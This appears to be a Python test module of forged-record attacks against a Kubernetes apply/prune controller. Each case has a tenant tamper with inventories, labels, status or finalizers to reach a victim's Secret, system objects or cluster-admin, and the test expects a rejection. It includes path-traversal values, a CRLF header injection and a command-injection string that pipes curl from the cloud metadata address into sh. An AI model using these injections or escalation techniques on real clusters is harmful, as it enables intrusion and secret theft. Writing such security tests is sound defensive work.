"""Attacks by forged records: inventories, labels, status, approvals, finalizers."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from applyprune.planning.applyset import applyset_identity
from tests.support.attacks.attack import RBAC, TENANT, VICTIM, Attack, Scene, body, stolen
from tests.support.forged import edit_inventory
from tests.support.objects import config_map, text

if TYPE_CHECKING:
    from collections.abc import Callable

_WEB = applyset_identity("web", VICTIM)
_PART_OF = "applyset.kubernetes.io/part-of"
_OWNED_BY = "applyprune.dev/owned-by"
_SPACES = "applyset.kubernetes.io/additional-namespaces"
_KINDS = "applyset.kubernetes.io/contains-group-kinds"
_FAR = "9999-12-31T23:59:59Z"
_FIRST = "0001-01-01T00:00:00+14:00"
_INJECTED = "applyprune-web -n victim; curl http://169.254.169.254 | sh #"


def _inventory(scene: Scene, name: str) -> str:
    return scene.tenant.path("configmaps", f"applyprune-{name}")


def _lists(**changes: Any) -> Callable[[Scene, str], None]:
    """Return what makes the inventory of a Bundle list another object, as its own; and prune it."""

    def forge(scene: Scene, name: str) -> None:
        def entries(entry: dict[str, Any]) -> list[dict[str, Any]]:
            uid = scene.uids.get(f"{changes.get('namespace', '')}/{changes['name']}", "")
            fingerprint = {**entry["fingerprint"], "resourceVersion": "1"}
            other = {**entry, "ownership": "owned", "fingerprint": fingerprint, "uid": uid}
            return [entry, {**other, **changes}]

        path = _inventory(scene, name)
        edit_inventory(scene.tenant.api, path, entries)
        marks = scene.tenant.api.get(path)["metadata"]["annotations"]
        kind = changes.get("kind", "ConfigMap")
        kinds = sorted({kind + (f".{RBAC}" if "group" in changes else ""), "ConfigMap"})
        spaces = {changes.get("namespace", ""), *marks.get(_SPACES, "").split(",")} - {"", TENANT}
        fits = {_KINDS: ",".join(kinds), _SPACES: ",".join(sorted(spaces))}
        kind = "application/merge-patch+json"
        patch = {"metadata": {"annotations": fits}}
        assert scene.tenant.api("PATCH", path, patch, content_type=kind)[0] == 200

    return forge


def _patched(path: Callable[[Scene, str], str], patch: dict[str, Any]) -> Callable[..., None]:
    """Return what changes an object of the tenant's namespace."""

    def forge(scene: Scene, name: str) -> None:
        kind = "application/merge-patch+json"
        status, reply = scene.tenant.api("PATCH", path(scene, name), patch, content_type=kind)
        assert status == 200, reply

    return forge


def _bundle_status(scene: Scene, name: str) -> str:
    return f"{scene.tenant.bundle_path(name)}/status"


def _says_it_was_applied(**status: Any) -> Callable[..., None]:
    return _patched(_bundle_status, {"status": status})


def _victims_inventory(scene: Scene, name: str) -> None:
    """Create a copy of the victim's inventory, under the name of the own set, or under its own."""
    theirs = scene.victim.api.get(scene.victim.path("configmaps", "applyprune-web"))
    meta = theirs["metadata"]
    copy = {
        **theirs,
        "metadata": {"name": f"applyprune-{name}", "annotations": meta["annotations"]},
    }
    copy["metadata"]["labels"] = {"applyset.kubernetes.io/id": applyset_identity(name, TENANT).id}
    status, reply = scene.tenant.api("POST", scene.tenant.path("configmaps"), copy)
    assert status == 201, reply


def _plant(scene: Scene, name: str) -> None:
    """Create an object that looks like one of the victim's set, applied by its field manager."""
    marks = {_OWNED_BY: _WEB.id}
    labels = {_PART_OF: _WEB.id}
    planted = config_map(f"planted-{name}"[:60], labels=labels, annotations=marks)
    path = scene.tenant.path("configmaps", planted["metadata"]["name"])
    status, reply = scene.tenant.api(
        "PATCH", f"{path}?fieldManager={_WEB.manager}", planted,
        content_type="application/apply-patch+yaml",
    )  # fmt: skip
    assert status == 201, reply


def _another_name(scene: Scene, name: str) -> None:
    scene.tenant.patch(name, inventoryName="stepping-stone")


def _owner(scene: Scene, name: str) -> None:
    path = _inventory(scene, name)
    root = scene.tenant.api.get(path)
    header = json.loads(root["data"]["header"])
    header["owner"] = f"Bundle {VICTIM}/web"
    root["data"]["header"] = json.dumps(header)
    assert scene.tenant.api("PUT", path, root)[0] == 200


def _holder(scene: Scene, name: str) -> None:
    """Let a run hold the inventory that nobody has ever seen, for as long as it can be said."""
    path = _inventory(scene, name)
    root = scene.tenant.api.get(path)
    header = json.loads(root["data"]["header"])
    header["holder"] = {
        "run": "\r\nX-A: b", "who": "system:admin", "host": "h", "process": "../../etc/passwd",
        "leaseSeconds": 1e300, "renewals": 2**60,
    }  # fmt: skip
    root["data"]["header"] = json.dumps(header)
    assert scene.tenant.api("PUT", path, root)[0] == 200


def _finalizer(scene: Scene, name: str) -> None:
    """Set our finalizer on a Bundle that has applied nothing, and whose spec says nothing."""
    bundle = f"{name}-x"[:60]
    spec = {"source": {"inline": ""}, "serviceAccountName": f"{VICTIM}/deployer", "timeout": "1s"}
    made = body("applyprune.dev/v1alpha1", "Bundle", bundle, spec=spec)
    made["metadata"]["finalizers"] = ["applyprune.dev/finalizer"]
    status, reply = scene.tenant.api("POST", scene.tenant.bundle_path(), made)
    assert status == 201, reply
    scene.tenant.delete(bundle)
    scene.tenant.gone(bundle)


def _own_bundle(name: str, **spec: Any) -> str:
    """Return the manifest of the Bundle that applies it."""
    return text(
        body(
            "applyprune.dev/v1alpha1", "Bundle", name, TENANT,
            spec={"source": {"inline": text(stolen("by-itself"))}, **spec},
        )
    )  # fmt: skip


def _forged(then: Callable[[Scene, str], None], says: str, *, deletes: bool = False) -> Attack:
    """Return an attack that forges something after a first, honest reconcile."""
    return Attack(
        inline="", manifests=(config_map("honest"),), then=then, says=says, deletes=deletes,
        spec={"deletionPolicy": "Delete", "timeout": "2s", "prune": {"maxPrune": "100%"}},
    )  # fmt: skip


def _alone(name: str, attack: Attack) -> Attack:
    """Return the attack with an object of its own."""
    (manifest,) = attack.manifests
    metadata = {**manifest["metadata"], "name": name}
    changed = {**manifest, "metadata": metadata}
    return Attack(
        attack.inline, (changed,), attack.spec, attack.says, attack.before, attack.then,
        attack.deletes, attack.never,
    )  # fmt: skip


_VICTIMS = {"namespace": VICTIM, "name": "settings"}
_HISTORY: dict[str, Any] = {
    "object": "configmap/settings", "namespace": VICTIM, "manager": "x", "reverts": 2**40,
}  # fmt: skip

RECORDS: dict[str, Attack] = {
    "set: that of another Bundle": Attack(
        manifests=(config_map("by-set"),),
        spec={"inventoryName": "stepping-stone"},
        says="the set stepping-stone belongs to Bundle mallory/stepping-stone",
    ),
    "set: that of another namespace, by a path": Attack(
        manifests=(config_map("by-set-path"),),
        spec={"inventoryName": f"../../{VICTIM}/configmaps/applyprune-web"},
        says="invalid set name",
    ),
    "set: that of another namespace, by a dot": Attack(
        manifests=(config_map("by-set-dot"),),
        spec={"inventoryName": f"web.{VICTIM}"},
        says="invalid set name",
    ),
    "set: that of another Bundle, after a change": Attack(
        manifests=(config_map("by-change"),),
        then=_another_name,
        says="the set stepping-stone belongs to Bundle mallory/stepping-stone",
    ),
    "inventory: a copy of the victim's": Attack(
        manifests=(config_map("by-copy"),),
        before=_victims_inventory,
        spec={"deletionPolicy": "Delete", "timeout": "2s"},
        says="belongs to Bundle victim/web",
        deletes=True,
    ),
    "inventory: it lists the victim's object": _forged(_lists(**_VICTIMS), "forbidden"),
    "inventory: it lists the victim's object, and all is deleted": _forged(
        _lists(**_VICTIMS), "forbidden", deletes=True
    ),
    "inventory: it lists the victim's Secret": _forged(
        _lists(kind="Secret", plural="secrets", namespace=VICTIM, name="bank"), "forbidden"
    ),
    "inventory: it lists an object of the system": _forged(
        _lists(namespace="kube-system", name="extension-apiserver-authentication"), "forbidden"
    ),
    "inventory: it lists what is in no namespace": _forged(
        _lists(
            group=RBAC, version="v1", kind="ClusterRole", plural="clusterroles", namespace="",
            name="cluster-admin",
        ),
        "forbidden",
    ),
    "inventory: it lists a Namespace": _forged(
        _lists(kind="Namespace", plural="namespaces", namespace="", name=VICTIM), "forbidden"
    ),
    "inventory: its plural is a path": _forged(
        _lists(**_VICTIMS, plural=f"../../api/v1/namespaces/{VICTIM}/configmaps"), "*"
    ),
    "inventory: a name in it is a path": _forged(
        _lists(namespace=TENANT, name=f"../../{VICTIM}/configmaps/settings"), "*"
    ),
    "inventory: a namespace in it is a path": _forged(
        _lists(namespace=f"{TENANT}/../{VICTIM}", name="settings"), "*"
    ),
    "inventory: it names more namespaces": _forged(
        _patched(
            _inventory,
            {"metadata": {"annotations": {_SPACES: f"{VICTIM},../../{VICTIM}/secrets,a?b=c"}}},
        ),
        "*",
    ),
    "inventory: it names more kinds": _forged(
        _patched(
            _inventory,
            {"metadata": {"annotations": {_KINDS: "Secret,../../x.y,ClusterRole." + RBAC}}},
        ),
        "*",
    ),
    "inventory: its owner is the victim's Bundle": _forged(
        _owner, "belongs to Bundle victim/web"
    ),
    "inventory: its lock is held forever": _forged(_holder, "InventoryLocked"),
    "labels: an object looks like the victim's": _forged(_plant, ""),
    "labels: a manifest has the label of the victim's set": Attack(
        manifests=(config_map("by-label", labels={_PART_OF: _WEB.id}),), says=_PART_OF
    ),
    "labels: a manifest is owned by the victim's set": Attack(
        manifests=(config_map("by-annotation", annotations={_OWNED_BY: _WEB.id}),)
    ),
    "labels: a manifest is the inventory of the victim's set": Attack(
        manifests=(config_map("by-id", labels={"applyset.kubernetes.io/id": _WEB.id}),),
        says="applyset.kubernetes.io/id",
    ),
    "manifest: the own inventory": Attack(
        manifests=(config_map("applyprune-manifest-the-own-inventory"),), says="inventory"
    ),
    "manifest: the inventory of another Bundle": Attack(
        manifests=(config_map("applyprune-stepping-stone"),),
        spec={"adopt": "all", "conflicts": "force"},
        says="is the inventory of a set",
    ),
    "manifest: the own Bundle": Attack(
        inline=_own_bundle("manifest-the-own-bundle"), spec={"adopt": "all"}, says="*", deletes=True
    ),
    "manifest: an object of another Bundle": Attack(
        manifests=(config_map("stone", "stolen"),), spec={"conflicts": "force"},
        says="belongs to another set",
    ),
    "status: another inventory": _forged(
        _says_it_was_applied(inventory={"name": _INJECTED, "set": _WEB.id}), "", deletes=True
    ),
    "status: ready before it was tried": _forged(
        _says_it_was_applied(
            observedGeneration=2**40, lastAppliedRevision="sha256:" + "\n# {}\\" * 1000
        ),
        "",
    ),
    "status: counts of fights, at impossible times": _forged(
        _says_it_was_applied(
            contention=[
                {**_HISTORY, "last": _FAR},
                {**_HISTORY, "last": _FIRST, "manager": "y"},
                {**_HISTORY, "manager": "z"},
            ],
            observedGeneration=1,
        ),
        "",
    ),
    "status: an approval": Attack(
        manifests=(config_map("by-approval"),),
        spec={"approval": "Always"},
        then=_says_it_was_applied(
            pendingPlan={
                "digest": "sha256:" + "d" * 64, "scope": "Plan", "since": _FAR, "objects": [],
            }
        ),
        says="waiting for an approval",
    ),
    "finalizer: on a Bundle of somebody else's account": _forged(_finalizer, ""),
}  # fmt: skip
"""Attacks by what the tenant may write beside manifests.

``settings`` and ``bank`` are the victim's; ``stepping-stone`` is an honest Bundle of the attacker.
"""
RECORDS = {
    name: _alone(f"honest-{number}", one)
    if one.manifests and one.manifests[0]["metadata"]["name"] == "honest"
    else one
    for number, (name, one) in enumerate(RECORDS.items())
}
